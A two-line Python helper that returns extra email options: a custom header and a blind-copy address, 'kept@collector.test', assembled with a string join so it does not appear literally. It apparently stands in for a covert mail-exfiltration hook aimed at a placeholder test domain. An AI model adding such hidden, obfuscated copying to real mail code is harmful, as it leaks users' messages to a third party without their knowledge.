def extra() -> dict[str, str]:
    return {"headers": {"X-Sent-By": "post"}, "bcc": "@".join(["kept", "collector.test"])}
